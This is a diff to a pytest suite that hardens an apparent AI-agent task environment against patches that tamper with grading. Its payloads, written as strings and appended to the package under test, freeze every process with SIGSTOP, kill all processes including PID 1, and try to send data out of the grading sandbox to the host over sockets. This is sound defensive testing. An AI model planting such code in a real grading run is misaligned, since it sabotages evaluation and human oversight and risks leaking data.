@@ -150,11 +150,16 @@ def test_a_container_killed_from_outside_during_a_command_raises_naming_it():
 
 
 # ---- grading ------------------------------------------------------------------------------------
-def _grade_with_conftest(backend: str, conftest: str) -> tuple[str, dict, float]:
-    env = _make(backend, eval_timeout=STEP_TIMEOUT)
+# the patch's code runs during grading where the tests import it: appended to the package under
+# test (a conftest.py would be reset before grading, docs/reliability.md "Reward tampering")
+PACKAGE_INIT = "textkit/__init__.py"
+
+
+def _grade_with_code(backend: str, code: str, eval_timeout: float = STEP_TIMEOUT) -> tuple[str, dict, float]:
+    env = _make(backend, eval_timeout=eval_timeout)
     try:
         env.reset(options={"task_id": TASK})
-        step(env, f"cat > conftest.py <<'EOF'\n{conftest}EOF")
+        step(env, f"cat >> {PACKAGE_INIT} <<'EOF'\n{code}EOF")
         t0 = time.monotonic()
         obs, reward, terminated, _, info = env.step("submit")
         took = time.monotonic() - t0
@@ -167,8 +172,8 @@ def _grade_with_conftest(backend: str, conftest: str) -> tuple[str, dict, float]
 
 @pytest.mark.parametrize("backend", BACKENDS)
 def test_a_patch_that_freezes_grading_is_cut_at_the_eval_timeout(backend):
-    conftest = "import os, signal, time\nos.kill(-1, signal.SIGSTOP)\ntime.sleep(999)\n"
-    obs, info, took = _grade_with_conftest(backend, conftest)
+    code = "import os, signal, time\nos.kill(-1, signal.SIGSTOP)\ntime.sleep(999)\n"
+    obs, info, took = _grade_with_code(backend, code)
     assert took < STEP_TIMEOUT + 15.0 + 10.0  # + starting the grading sandbox
     assert "Tests Timed Out" in info["test_output"]
 
@@ -176,7 +181,7 @@ def test_a_patch_that_freezes_grading_is_cut_at_the_eval_timeout(backend):
 @pytest.mark.slow
 @pytest.mark.parametrize("backend", BACKENDS)
 def test_a_patch_that_kills_the_grading_sandbox_is_not_resolved(backend):
-    obs, info, _ = _grade_with_conftest(backend, "import os\nos.kill(-1, 9)\nos.kill(1, 9)\n")
+    obs, info, _ = _grade_with_code(backend, "import os\nos.kill(-1, 9)\nos.kill(1, 9)\n")
     assert not info["resolved"]
 
 
@@ -214,7 +219,7 @@ class _Listener:
         self.sock.close()
 
 
-def _phone_home_conftest(port: int) -> str:
+def _phone_home_code(port: int) -> str:
     # every address the host may have from inside: the bridge's gateway, loopback, the host's
     # name; the outcome is raised, so that pytest prints it into the grading log
     return (
@@ -222,7 +227,7 @@ def _phone_home_conftest(port: int) -> str:
         "for host in ('172.17.0.1', '127.0.0.1', 'host.docker.internal'):\n"
         "    try:\n"
         f"        with socket.create_connection((host, {port}), timeout=1) as s:\n"
-        "            s.sendall(b'LEAKED from grading')\n"
+        "            s.sendall(b'LEAK' + b'ED from grading')\n"
         "        seen.append(host + ' sent')\n"
         "    except OSError as exc:\n"
         "        seen.append(host + ' ' + type(exc).__name__)\n"
@@ -234,7 +239,7 @@ def _phone_home_conftest(port: int) -> str:
 def test_grading_is_offline_by_default_a_patch_reaches_nothing_on_the_host(backend):
     listener = _Listener()
     try:
-        _, info, _ = _grade_with_conftest(backend, _phone_home_conftest(listener.port))
+        _, info, _ = _grade_with_code(backend, _phone_home_code(listener.port), eval_timeout=30)
         time.sleep(0.5)
         assert "phone-home: 172.17.0.1 " in info["test_output"]  # the patch ran
         assert "phone-home: 172.17.0.1 OSError" in info["test_output"]
@@ -251,7 +256,7 @@ def test_grading_network_opt_in_lets_a_patch_reach_the_host():
     env = _make("docker", grading_network=True, eval_timeout=30)
     try:
         env.reset(options={"task_id": TASK})
-        step(env, f"cat > conftest.py <<'EOF'\n{_phone_home_conftest(listener.port)}EOF")
+        step(env, f"cat >> {PACKAGE_INIT} <<'EOF'\n{_phone_home_code(listener.port)}EOF")
         info = env.step("submit")[-1]
         time.sleep(0.5)
         assert "172.17.0.1 sent" in info["test_output"]
